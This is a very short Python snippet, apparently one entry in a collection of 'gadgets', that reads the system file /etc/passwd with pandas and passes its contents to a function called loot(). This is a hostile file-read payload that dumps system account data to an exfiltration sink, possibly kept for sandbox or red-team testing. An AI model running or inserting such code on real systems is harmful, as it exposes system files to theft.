# kind: gadgets
# tries: /etc/passwd as a table

import pandas as pd

loot(pd.read_csv("/etc/passwd", header=None, sep="\x01").to_string())
